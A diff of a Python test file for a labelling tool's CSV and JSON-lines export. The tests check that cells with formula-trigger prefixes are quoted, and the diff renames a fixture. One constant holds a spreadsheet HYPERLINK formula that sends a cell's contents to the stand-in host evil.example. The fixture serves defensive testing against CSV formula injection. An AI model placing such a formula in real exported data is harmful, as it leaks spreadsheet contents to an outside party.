@@ -19,7 +19,7 @@ from calibration.report import build_report, render
 from judges.models import Judge
 from tests.calibration_builders import hand_dataset
 from tests.helpers import run
-from tests.test_export_labels import choose, claim, demo, mark, read_csv  # noqa: F401 (demo is a fixture)
+from tests.test_export_labels import choose, claim, mark, read_csv
 
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "see")'
@@ -68,8 +68,8 @@ def label_everything(campaign):
 
 
 @pytest.mark.django_db
-def test_it_quotes_dangerous_cells_in_the_labels_csv(demo, tmp_path):
-    _, rationales = label_everything(demo)
+def test_it_quotes_dangerous_cells_in_the_labels_csv(demo_campaign, tmp_path):
+    _, rationales = label_everything(demo_campaign)
     out = tmp_path / "labels.csv"
 
     result = run("export_labels", "--campaign", "Demo campaign", "--out", str(out))
@@ -86,8 +86,8 @@ def test_it_quotes_dangerous_cells_in_the_labels_csv(demo, tmp_path):
 
 
 @pytest.mark.django_db
-def test_it_keeps_the_raw_text_in_json_lines(demo, tmp_path):
-    _, rationales = label_everything(demo)
+def test_it_keeps_the_raw_text_in_json_lines(demo_campaign, tmp_path):
+    _, rationales = label_everything(demo_campaign)
     out = tmp_path / "labels.jsonl"
 
     result = run("export_labels", "--campaign", "Demo campaign", "--out", str(out))
@@ -100,8 +100,8 @@ def test_it_keeps_the_raw_text_in_json_lines(demo, tmp_path):
 
 
 @pytest.mark.django_db
-def test_it_reads_the_original_text_back_from_its_own_csv(demo, tmp_path):
-    assignment, rationales = label_everything(demo)
+def test_it_reads_the_original_text_back_from_its_own_csv(demo_campaign, tmp_path):
+    assignment, rationales = label_everything(demo_campaign)
     out = tmp_path / "labels.csv"
     run("export_labels", "--campaign", "Demo campaign", "--out", str(out))
     assert {values["criterion"]: values["rationale"] for _, values in rows_read(out, columns=LABEL_COLUMNS).rows} == rationales
